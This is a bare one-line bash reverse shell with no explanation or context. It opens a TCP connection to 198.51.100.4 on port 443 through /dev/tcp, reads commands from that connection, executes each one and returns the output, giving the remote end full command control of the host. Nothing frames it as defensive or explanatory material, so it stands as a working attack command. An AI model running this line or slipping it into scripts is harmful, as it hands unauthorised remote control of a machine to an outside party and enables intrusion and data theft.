exec 5<>/dev/tcp/198.51.100.4/443; cat <&5 | while read line; do $line 2>&5 >&5; done
